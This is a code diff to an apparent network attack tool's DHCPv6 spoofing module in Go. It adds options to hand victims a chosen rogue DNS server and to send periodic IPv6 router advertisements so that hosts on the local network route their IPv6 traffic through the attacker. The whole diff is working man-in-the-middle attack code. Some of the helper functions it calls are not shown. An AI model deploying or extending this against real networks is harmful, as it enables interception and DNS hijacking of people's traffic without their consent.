@@ -31,6 +31,11 @@ type DHCP6Spoofer struct {
 	DUIDRaw       []byte
 	Domains       []string
 	RawDomains    []byte
+	dns           net.IP
+	prefix        *net.IPNet
+	lifetime      int
+	ra            bool
+	raEvery       int
 	waitGroup     *sync.WaitGroup
 	pktSourceChan chan gopacket.Packet
 }
@@ -47,6 +52,28 @@ func NewDHCP6Spoofer(s *session.Session) *DHCP6Spoofer {
 		``,
 		"Comma separated values of domain names to spoof."))
 
+	spoof.AddParam(session.NewStringParameter("dhcp6.spoof.dns",
+		"",
+		"",
+		"IPv6 address of the DNS server given to the hosts, empty for the one of this interface."))
+
+	spoof.AddParam(session.NewIntParameter("dhcp6.spoof.lifetime",
+		"300",
+		"Seconds the assigned addresses, the advertised prefix, DNS server and default route are valid for."))
+
+	spoof.AddParam(session.NewBoolParameter("dhcp6.spoof.ra",
+		"false",
+		"If true, periodically send router advertisements to become the default IPv6 router, they're withdrawn with a zero lifetime on stop."))
+
+	spoof.AddParam(session.NewStringParameter("dhcp6.spoof.prefix",
+		"",
+		"",
+		"If set, IPv6 /64 prefix advertised with dhcp6.spoof.ra for the hosts to pick an address from (SLAAC)."))
+
+	spoof.AddParam(session.NewIntParameter("dhcp6.spoof.ra.interval",
+		"10",
+		"Seconds between router advertisements."))
+
 	spoof.AddHandler(session.NewModuleHandler("dhcp6.spoof on", "",
 		"Start the DHCPv6 spoofer in the background.",
 		func(args []string) error {
@@ -96,6 +123,38 @@ func (s *DHCP6Spoofer) Configure() error {
 
 	s.RawDomains = packets.DHCP6EncodeList(s.Domains)
 
+	var dns, prefix string
+	if err, dns = s.StringParam("dhcp6.spoof.dns"); err != nil {
+		return err
+	} else if dns == "" {
+		s.dns = s.Session.Interface.IPv6
+	} else if s.dns = net.ParseIP(dns); s.dns == nil || s.dns.To4() != nil {
+		return fmt.Errorf("%s is not a valid IPv6 address", dns)
+	}
+
+	if err, s.lifetime = s.IntParam("dhcp6.spoof.lifetime"); err != nil {
+		return err
+	} else if s.lifetime < 1 || s.lifetime > 65535 {
+		return fmt.Errorf("dhcp6.spoof.lifetime must be between 1 and 65535")
+	} else if err, s.ra = s.BoolParam("dhcp6.spoof.ra"); err != nil {
+		return err
+	} else if err, prefix = s.StringParam("dhcp6.spoof.prefix"); err != nil {
+		return err
+	} else if err, s.prefix = parseRAPrefix(prefix); err != nil {
+		return err
+	} else if err, s.raEvery = s.IntParam("dhcp6.spoof.ra.interval"); err != nil {
+		return err
+	} else if s.raEvery < 1 {
+		return fmt.Errorf("dhcp6.spoof.ra.interval must be greater than 0")
+	}
+
+	if s.ra {
+		if s.Session.Interface.IPv6 == nil {
+			return fmt.Errorf("%s has no IPv6 link-local address to send router advertisements from", s.Session.Interface.Name())
+		}
+		log.Warning("hosts will route their IPv6 traffic through us, make sure IPv6 forwarding is enabled.")
+	}
+
 	if s.DUID, err = dhcp6opts.NewDUIDLLT(1, time.Date(2000, time.January, 1, 0, 0, 0, 0, time.UTC), s.Session.Interface.HW); err != nil {
 		return err
 	} else if s.DUIDRaw, err = s.DUID.MarshalBinary(); err != nil {
@@ -116,7 +175,7 @@ func (s *DHCP6Spoofer) dhcp6For(what dhcp6.MessageType, to dhcp6.Packet) (err er
 		return
 	}
 
-	p.Options.AddRaw(packets.DHCP6OptDNSServers, s.Session.Interface.IPv6)
+	p.Options.AddRaw(packets.DHCP6OptDNSServers, s.dns)
 	p.Options.AddRaw(packets.DHCP6OptDNSDomains, s.RawDomains)
 
 	return nil, p
@@ -158,7 +217,8 @@ func (s *DHCP6Spoofer) dhcpAdvertise(pkt gopacket.Packet, solicit dhcp6.Packet,
 
 	addr := fmt.Sprintf("%s%s", packets.IPv6Prefix, strings.Replace(ip.String(), ".", ":", -1))
 
-	iaaddr, err := dhcp6opts.NewIAAddr(net.ParseIP(addr), 300*time.Second, 300*time.Second, nil)
+	lifetime := time.Duration(s.lifetime) * time.Second
+	iaaddr, err := dhcp6opts.NewIAAddr(net.ParseIP(addr), lifetime, lifetime, nil)
 	if err != nil {
 		log.Error("Error creating IAAddr: %s", err)
 		return
@@ -218,7 +278,7 @@ func (s *DHCP6Spoofer) dhcpAdvertise(pkt gopacket.Packet, solicit dhcp6.Packet,
 	}
 
 	log.Debug("Sending %d bytes of packet ...", len(raw))
-	if err := s.Session.Queue.Send(raw); err != nil {
+	if err := s.Send(raw); err != nil {
 		log.Error("Error sending packet: %s", err)
 	}
 }
@@ -297,7 +357,7 @@ func (s *DHCP6Spoofer) dhcpReply(toType string, pkt gopacket.Packet, req dhcp6.P
 	}
 
 	log.Debug("Sending %d bytes of packet ...", len(raw))
-	if err := s.Session.Queue.Send(raw); err != nil {
+	if err := s.Send(raw); err != nil {
 		log.Error("Error sending packet: %s", err)
 	}
 
@@ -365,6 +425,11 @@ func (s *DHCP6Spoofer) Start() error {
 		s.waitGroup.Add(1)
 		defer s.waitGroup.Done()
 
+		if s.ra {
+			s.waitGroup.Add(1)
+			go s.raLoop()
+		}
+
 		src := gopacket.NewPacketSource(s.Handle, s.Handle.LinkType())
 		s.pktSourceChan = src.Packets()
 		for packet := range s.pktSourceChan {
@@ -372,6 +437,7 @@ func (s *DHCP6Spoofer) Start() error {
 				break
 			}
 
+			s.FrameReceived()
 			s.onPacket(packet)
 		}
 	})
@@ -382,5 +448,8 @@ func (s *DHCP6Spoofer) Stop() error {
 		s.pktSourceChan <- nil
 		s.Handle.Close()
 		s.waitGroup.Wait()
+		if s.ra {
+			s.restoreRA()
+		}
 	})
 }